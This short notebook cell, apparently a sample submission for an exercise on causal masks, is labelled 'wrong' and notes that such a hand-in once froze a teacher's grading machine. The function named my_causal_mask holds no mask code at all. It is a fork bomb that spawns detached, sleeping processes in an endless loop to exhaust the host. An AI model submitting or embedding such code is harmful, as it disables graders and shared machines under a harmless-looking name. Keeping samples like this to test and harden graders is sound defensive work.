# 3.2 wrong
# The old grader: one such hand-in, and the teacher's machine stood still.
# %%
import os, time
def my_causal_mask(n_queries, n_keys):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(1000)
        except OSError:
            raise
